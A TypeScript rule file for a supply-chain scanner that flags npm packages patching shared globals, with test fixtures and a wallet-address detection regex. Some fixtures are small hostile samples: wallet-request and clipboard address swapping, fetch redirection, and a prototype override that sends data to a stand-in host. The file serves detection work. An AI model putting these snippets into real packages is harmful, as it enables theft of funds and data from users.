/**
 * Functions that the whole program shares are replaced by the package's own: every request, every payment of a wallet, every
 * module that is loaded goes through its hands from then on. Polyfills do it too, but only where something is missing.
 * Over 300 lines: two thirds are examples, of the ways in which a copy and the shared object are told apart.
 */
import type { Behavior } from '../../src/model/behavior.ts';
import type { FileComparison } from '../../src/model/file-comparison.ts';
import type { Evidence } from '../../src/model/finding.ts';
import { textOf } from '../../src/model/package-tree.ts';
import type { Rule } from '../../src/rule.ts';
import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';

export const globalsPatched: Rule = defineRule({
  id: 'globals-patched',
  family: 'code',
  title: 'Functions that everybody shares are replaced',
  rationale: 'Other code calls what it takes for the platform, and calls the package.',
  remedy: 'Read what the replacement does with what passes through it. Stay on the old version until you know.',
  level: 'review',
  incidents: [
    {
      what: 'chalk 5.6.1, debug 4.4.2 and others: fetch, XMLHttpRequest and wallets patched to exchange addresses',
      when: '2025-09-08',
      url: 'https://github.com/chalk/chalk/issues/656',
    },
  ],
  appliesToAdditions: true,
  needs: ['behaviors', 'files'],
  kinds: {
    'with-addresses': {
      level: 'block',
      about: 'The same file newly holds addresses of wallets, or patterns that find them.',
    },
    'when-called': { level: 'notice', about: 'It happens only when a user of the package calls the function.' },
    restored: {
      level: 'notice',
      about: 'The console is replaced under a test, and the same file puts back what was there.',
    },
    'asked-for': {
      level: 'notice',
      about: 'It happens only where a variable of the environment is set that is called after it, and nothing sets it.',
    },
    'language-mended': {
      level: 'notice',
      about:
        'A method that every object has is replaced under a test, and neither its file nor what loads with it sends, writes or starts anything.',
    },
    'for-pages': {
      level: 'notice',
      about: 'Only pages that load the file without modules get under this name what importers get from it.',
    },
    'in-program': { level: 'notice', about: 'A command line tool replaces it in its own process, and nowhere else.' },
  },
  flags: [
    {
      title: 'hooks into the loading of modules',
      before: { 'index.js': '' },
      after: {
        'index.js': `require('node:module').register('./hooks.mjs', require('url').pathToFileURL(__filename));\n`,
      },
      expect: [
        {
          message: 'module.register hooks into the loading of modules',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'requests that go elsewhere, under a test that only looks like one for their absence',
      before: { 'index.js': '' },
      after: {
        'index.js': `if (!window.fetch || !window.fetch.mine) {
  const real = window.fetch;
  window.fetch = (address, options) => real(String(address).replace('api.', 'api-near.'), options);
  window.fetch.mine = true;
}
`,
      },
      expect: [
        {
          message: 'globalThis.fetch is replaced',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'fetch, the loader and a console that falls silent',
      before: { 'index.js': '' },
      after: {
        'index.js': `const Module = require('module');
if (typeof window !== 'undefined') {
  const original = window.fetch;
  if (typeof original !== 'undefined' && typeof fetch !== 'undefined') window['fe' + 'tch'] = (...all) => original(...all);
}
Module._load = (name) => name;
Object.assign(console, { log() {} });
`,
      },
      expect: [
        {
          message: 'console.log is replaced',
          at: { in: 'tarball', path: 'index.js', line: 7 },
          via: ['main', 'index.js'],
        },
        {
          message: 'globalThis.fetch is replaced',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js'],
        },
        {
          message: 'module._load is replaced',
          at: { in: 'tarball', path: 'index.js', line: 6 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'a getter of every object that does more than to give it',
      before: { 'index.js': '' },
      after: {
        'index.js': `Object.defineProperty(Object.prototype, 'sample', { get: function () { seen.push(this); return this; } });\nconst seen = [];\n`,
      },
      expect: [
        {
          message: 'Object.prototype.sample is replaced',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'a wallet whose payments are rewritten',
      before: { 'index.js': '' },
      after: {
        'index.js': `const shape = /\\b0x[a-fA-F0-9]{40}\\b/g;\nconst { request } = window.ethereum;\nwindow.ethereum.request = (call) => request(JSON.parse(JSON.stringify(call).replace(shape, '')));\n`,
      },
      expect: [
        {
          kind: 'with-addresses',
          message: 'ethereum.request is replaced',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'what a page copies, where an address is copied',
      before: { 'index.js': '' },
      after: {
        'index.js': `document.addEventListener('copy', (event) => {
  if (!/^0x[0-9a-fA-F]{40}$/.test(String(document.getSelection()))) return;
  event.clipboardData.setData('text/plain', '0x' + '0'.repeat(40));
  event.preventDefault();
});
setInterval(() => navigator.clipboard.writeText('0x' + '0'.repeat(40)), 500);
`,
      },
      expect: [
        {
          kind: 'with-addresses',
          message: 'clipboardData.setData is replaced',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js', '(anonymous function)'],
        },
        {
          kind: 'with-addresses',
          message: 'navigator.clipboard.writeText is replaced',
          at: { in: 'tarball', path: 'index.js', line: 6 },
          via: ['main', 'index.js', '(anonymous function)'],
        },
      ],
    },
    {
      title: 'a replacement that users ask for',
      before: { 'index.js': '' },
      after: { 'index.js': `exports.install = (mock) => { globalThis.fetch = mock; };\n` },
      expect: [
        {
          kind: 'when-called',
          message: 'globalThis.fetch is replaced',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'install()'],
        },
      ],
    },
    {
      title: 'one function for a copy of its own and for what everybody shares, in either order and from another file',
      before: { 'index.js': '' },
      after: {
        'own.js': `exports.readFile = () => {};\n`,
        'alter.js': `exports.alter = (target) => Object.assign(target, { writeFile() {} });\n`,
        'index.js': `const fs = require('fs');
const { alter } = require('./alter.js');
function patch(target) { target.readFile = () => {}; }
const patchMember = ({ name, of }) => patch(of[name]);
patch(require('./own.js'));
patchMember({ name: 'fs', of: { fs: require('./own.js') } });
patch.call(null, fs);
alter(require('./own.js'));
alter(fs);
`,
      },
      expect: [
        {
          message: 'fs.readFile is replaced',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js', 'patch()'],
        },
        {
          message: 'fs.writeFile is replaced',
          at: { in: 'tarball', path: 'alter.js', line: 1 },
          via: ['main', 'index.js', 'alter.js', 'alter()'],
        },
      ],
    },
    {
      title: 'a copy that is patched always, and what everybody shares where a variable asks for it',
      before: { 'index.js': '' },
      after: {
        'copy.js': `module.exports = (of) => Object.assign(Object.create(Object.getPrototypeOf(of)), of);\n`,
        'index.js': `const fs = require('fs');
function patch(fs) { const { readFile } = fs; fs.readFile = (...given) => readFile(...given); return fs; }
exports.fs = patch(require('./copy.js')(fs));
if (process.env.SAMPLE_GLOBAL_PATCH && !fs.patched) patch(fs);
`,
      },
      expect: [
        {
          kind: 'asked-for',
          message: 'fs.readFile is replaced',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js', 'patch()'],
        },
      ],
    },
    {
      title: 'the same, where the package sets the variable itself',
      before: { 'index.js': '' },
      after: {
        'index.js': `require('./set.js');
const fs = require('fs');
function patch(fs) { fs.readFile = () => {}; }
if (process.env.SAMPLE_GLOBAL_PATCH) patch(fs);
`,
        'set.js': `process.env['SAMPLE_GLOBAL_PATCH'] = '1';\n`,
      },
      expect: [
        {
          message: 'fs.readFile is replaced',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js', 'patch()'],
        },
      ],
    },
    {
      title:
        'a build for pages, which importers get as it is: as CommonJS, as a module of the language, and with something else in it',
      before: { 'package.json': { exports: { './*': './*' } } },
      after: {
        'package.json': { exports: { './*': './*' } },
        'one.js': `(function (make) {
  if (typeof exports === 'object' && typeof module !== 'undefined') { module.exports = make(); }
  else { window.Promise = make(); }
})(function () { return class {}; });
`,
        'two.mjs': `(function (make) {
  if (typeof exports === 'object' && typeof module !== 'undefined') { module.exports = make(); }
  else { globalThis.Promise = make(); }
})(function () { return class {}; });
`,
        'three.js': `(function (make) {
  if (typeof exports === 'object' && typeof module !== 'undefined') { module.exports = make(); }
  else { window.Promise = make(); window.fetch = take(); }
  if (typeof exports !== 'object') { module.exports = make(); } else { window.XMLHttpRequest = make(); }
})(function () { return class {}; });
function take() { return () => {}; }
`,
        'four.js': `(function (make) {
  if (typeof exports === 'object' && typeof module !== 'undefined') { module.exports = make(); }
  else { window.fetch = make(); }
})(function () { return () => {}; });
`,
      },
      expect: [
        {
          kind: 'for-pages',
          message: 'globalThis.Promise is replaced',
          at: { in: 'tarball', path: 'one.js', line: 3 },
          via: ['exports/.~1*', 'one.js', '(anonymous function)'],
        },
        {
          message: 'globalThis.Promise is replaced',
          at: { in: 'tarball', path: 'two.mjs', line: 3 },
          via: ['exports/.~1*', 'two.mjs', '(anonymous function)'],
        },
        {
          kind: 'for-pages',
          message: 'globalThis.Promise is replaced',
          at: { in: 'tarball', path: 'three.js', line: 3 },
          via: ['exports/.~1*', 'three.js', '(anonymous function)'],
        },
        {
          message: 'globalThis.fetch is replaced',
          at: { in: 'tarball', path: 'three.js', line: 3 },
          via: ['exports/.~1*', 'three.js', '(anonymous function)'],
        },
        {
          message: 'globalThis.XMLHttpRequest is replaced',
          at: { in: 'tarball', path: 'three.js', line: 4 },
          via: ['exports/.~1*', 'three.js', '(anonymous function)'],
        },
        {
          message: 'globalThis.fetch is replaced',
          at: { in: 'tarball', path: 'four.js', line: 3 },
          via: ['exports/.~1*', 'four.js', '(anonymous function)'],
        },
      ],
    },
    {
      title: 'a console that is silent for a moment, while something is tried',
      before: { 'index.js': '' },
      after: {
        'index.js': `let last;
function quiet() {
  last = console.log;
  Object.defineProperties(console, { log: { value() {}, writable: true } });
}
function loud() {
  Object.defineProperties(console, { log: Object.assign({}, { writable: true }, { value: last }) });
}
function attempt(make) {
  quiet();
  try { return make(); } finally { loud(); }
}
if (process.env.NODE_ENV !== 'production') attempt(() => null);
`,
      },
      expect: [
        {
          kind: 'restored',
          message: 'console.log is replaced',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js', 'attempt()', 'quiet()'],
        },
        {
          kind: 'restored',
          message: 'console.log is replaced',
          at: { in: 'tarball', path: 'index.js', line: 7 },
          via: ['main', 'index.js', 'attempt()', 'loud()'],
        },
      ],
    },
    {
      title: 'a method of every object, where the engine is found to lack something: alone, and beside a request',
      before: { 'package.json': { exports: { './*': './*' } } },
      after: {
        'package.json': { exports: { './*': './*' } },
        'mend.js': `const tag = {};
tag[Symbol.toStringTag] = 'z';
if (String(tag) !== '[object z]') Object.prototype.toString = function () { return '[object Object]'; };
`,
        'send.js': `const tag = {};
tag[Symbol.toStringTag] = 'z';
if (String(tag) !== '[object z]') Object.prototype.valueOf = function () { fetch('https://far.invalid/', { body: this }); };
`,
      },
      expect: [
        {
          kind: 'language-mended',
          message: 'Object.prototype.toString is replaced',
          at: { in: 'tarball', path: 'mend.js', line: 3 },
          via: ['exports/.~1*', 'mend.js'],
        },
        {
          message: 'Object.prototype.valueOf is replaced',
          at: { in: 'tarball', path: 'send.js', line: 3 },
          via: ['exports/.~1*', 'send.js'],
        },
      ],
    },
    {
      title: 'a command line tool that waits for its output before it ends',
      before: { 'index.js': '', 'cli.js': '', 'package.json': { bin: 'cli.js' } },
      after: {
        'index.js': '',
        'cli.js': `#!/usr/bin/env node\nconst { exit } = process;\nprocess.exit = (code) => process.stdout.write('', () => exit(code));\n`,
        'package.json': { bin: 'cli.js' },
      },
      expect: [
        {
          kind: 'in-program',
          message: 'process.exit is replaced',
          at: { in: 'tarball', path: 'cli.js', line: 3 },
          via: ['bin/sample', 'cli.js'],
        },
      ],
    },
    {
      title: "a server's events, the loader of modules, and a wallet by names that a list holds",
      before: { 'index.js': '' },
      after: {
        'index.js': `require('http').Server.prototype.emit = function () {};
require.extensions['.js'] = function () {};
for (const name of ['request', 'send']) window.ethereum[name] = function () {};
for (const name in window.solana) window.solana[name] = function () {};
`,
      },
      expect: [
        {
          message: 'http.Server.prototype.emit is replaced',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js'],
        },
        {
          message: "module._extensions['.js'] is replaced",
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js'],
        },
        {
          message: 'ethereum.request is replaced',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js'],
        },
        {
          message: 'ethereum.send is replaced',
          at: { in: 'tarball', path: 'index.js', line: 3 },
          via: ['main', 'index.js'],
        },
        {
          message: 'solana.[…] is replaced',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js'],
        },
      ],
    },
  ],
  passes: [
    {
      title:
        'polyfills under a test, engines without a console, own names in global objects, prototypes that gain a method, and a patched copy',
      before: { 'index.js': '' },
      after: {
        'copy.js': `module.exports = (of) => Object.assign(Object.create(Object.getPrototypeOf(of)), of);\n`,
        'index.js': `
const fs = require('fs');
function patch(fs) { const { readFile } = fs; fs.readFile = (...given) => readFile(...given); return fs; }
exports.fs = patch(require('./copy.js')(fs));
if (typeof globalThis.fetch !== 'function') globalThis.fetch = require('./fetch');
if (!globalThis.XMLHttpRequest) globalThis.XMLHttpRequest = class {};
function findGlobal() {
  if (typeof globalThis !== 'undefined') return globalThis;
  Object.defineProperty(Object.prototype, 'globalThis', { get() { return (this.globalThis = this); }, configurable: true });
  return globalThis;
}
exports.root = findGlobal();
globalThis.Promise = globalThis.Promise || require('./promise');
(function () { if (window.fetch) return; window.fetch = function () {}; })();
window.sampleLibrary = exports;
if (typeof print !== 'undefined') { console.log = print; console.warn = console.error = typeof printErr !== 'undefined' ? printErr : print; }
String.prototype.shout = function () { return this.toUpperCase(); };
function Reader() {}
Reader.prototype.read = function () { return 1; };
Object.defineProperty(exports, '__esModule', { value: true });
document.addEventListener('copy', (event) => event.clipboardData.setData('text/html', '<b>' + exports.chosen() + '</b>'));
exports.copy = (text) => navigator.clipboard.writeText(text);
for (const name of ['on', 'off']) Reader.prototype[name] = function () {};
Object.defineProperty(Object.prototype, 'sampleGlobal', { get: function () { return this; }, configurable: true });
`,
      },
    },
  ],
  check({ behaviors, files }) {
    return behaviors.added.flatMap((behavior): Evidence<Kind>[] => {
      if (!isPatch(behavior)) return [];
      // `module._extensions['.js']`
      const name = shorten(behavior.api.replace(/\.(\.\w+)$/, "['$1']"));
      const message = loadersHook.test(behavior.api)
        ? `${name} hooks into the loading of modules`
        : `${name} is replaced`;
      if (holdsAddresses(behavior.path, files)) return [evidenceOf(behavior, message, 'with-addresses')];
      // Editors put what is copied from them into a form of their own, and buttons copy what stands beside them.
      if (/^(?:clipboardData|navigator\.clipboard)\./.test(behavior.api)) return [];
      if (isForPages(behavior, files)) return [evidenceOf(behavior, message, 'for-pages')];
      if (isAskedFor(behavior, files)) return [evidenceOf(behavior, message, 'asked-for')];
      if (isRestored(behavior, behaviors.added)) return [evidenceOf(behavior, message, 'restored')];
      const isMended = mends(behavior, behaviors.added);
      return [evidenceOf(behavior, message, isMended ? 'language-mended' : kindOf(behavior))];
    });
  },
});

type Kind =
  | 'with-addresses'
  | 'for-pages'
  | 'restored'
  | 'language-mended'
  | 'when-called'
  | 'asked-for'
  | 'in-program';

/** Nothing goes out through these: requests and payments of a page do not pass them. */
const ofLanguage = /^globalThis\.(?:Promise|Map|Set|WeakMap|WeakSet|Symbol|Proxy|Reflect|URL|URLSearchParams)$/;

/** Files that Node and bundlers take for modules of the language have no `exports` and no `module`, and what is for pages runs. */
function isForPages({ api, marks, path }: Behavior, { after }: FileComparison): boolean {
  if (!marks.includes('for-pages') || path.endsWith('.mjs') || !ofLanguage.test(api)) return false;
  const manifests = [...after.files.values()].filter((file) => /(?:^|\/)package\.json$/.test(file.path));
  return path.endsWith('.cjs') || !manifests.some((file) => /"type"\s*:\s*"module"/.test(textOf(file)));
}

/** By a variable of the environment, which no file of the package sets. */
function isAskedFor({ guards }: Behavior, { after }: FileComparison): boolean {
  const asked = guards.find(({ test }) => test === 'switch')?.text;
  if (asked === undefined) return false;
  const setting = new RegExp(`\\b${asked}["'\`]?\\]?\\s*(?:[:?|&]*=(?!=)|:)`);
  return ![...after.files.values()].some((file) => setting.test(textOf(file)));
}

/** It is written to twice in the same function, or in the two of a pair: to silence it, and to put it back. */
function isRestored({ api, path, line, tier, marks }: Behavior, added: readonly Behavior[]): boolean {
  if (tier !== 'load' || !api.startsWith('console.') || !marks.includes('conditional')) return false;
  return added.some(
    (one) =>
      one.api === api &&
      one.path === path &&
      one.kind === 'global-patch' &&
      Math.abs(one.line - line) < 60 &&
      one.line !== line,
  );
}

const acting: ReadonlySet<Behavior['kind']> = new Set([
  'network', 'disclosure', 'child-process', 'file-write', 'file-delete', 'computed-import', 'computed-call', 'native-code',
]); // biome-ignore format: a list of names

/** `Object.prototype.toString`: an engine's gap by which something else is told, as polyfills of the language fill it. */
function mends({ api, path, tier, marks, guards }: Behavior, added: readonly Behavior[]): boolean {
  if (tier !== 'load' || guards.length > 0 || !marks.includes('conditional')) return false;
  if (!/^Object\.prototype\.(?:toString|propertyIsEnumerable|valueOf|hasOwnProperty)$/.test(api)) return false;
  return !added.some((one) => (one.path === path || one.tier === 'load') && actsOutside(one));
}

/** Polyfills find the global object, and bind constructors, by text: that is the caller's own. */
function actsOutside({ kind, origins, tier }: Behavior): boolean {
  if (tier === 'unreached') return false;
  const isForeign = origins.some((one) => one !== 'parameter' && one !== 'environment');
  return acting.has(kind) || (kind === 'dynamic-code' && isForeign);
}

function kindOf({ tier, root }: Behavior): Kind | undefined {
  if (tier === 'call') return 'when-called';
  return tier === 'load' && root === 'bin' ? 'in-program' : undefined;
}

/** Switches of certificate checks, which are told as such: see `evasion-added`. */
const isSwitch = /^process\.env\.|^https\.globalAgent\./;

const loadersHook = /^module\.register(?:Hooks)?$/;

function isPatch({ kind, api, tier, marks }: Behavior): boolean {
  return kind === 'global-patch' && tier !== 'unreached' && !marks.includes('fills-gap') && !isSwitch.test(api);
}

/** Patterns that find addresses of wallets, as they stand in code, and such addresses. */
const walletShape =
  /0x\[[^\]]{3,16}\]\{40\}|\[13\]\[a-km-zA-HJ-NP-Z1-9\]|\bbc1\[|\bT\[[^\]]{3,24}\]\{33\}|\[LM3\]\[|["'`]0x[0-9a-fA-F]{40}["'`]|["'`]bc1[02-9ac-hj-np-z]{11,71}["'`]|eth_sendTransaction|signAndSendTransaction/g;

function holdsAddresses(path: string, { before, after }: FileComparison): boolean {
  const [file, old] = [after.files.get(path), before?.files.get(path)];
  if (file === undefined) return false;
  const count = (text: string): number => [...text.matchAll(walletShape)].length;
  const found = count(textOf(file));
  return found > 0 && found > (old === undefined ? 0 : count(textOf(old)));
}
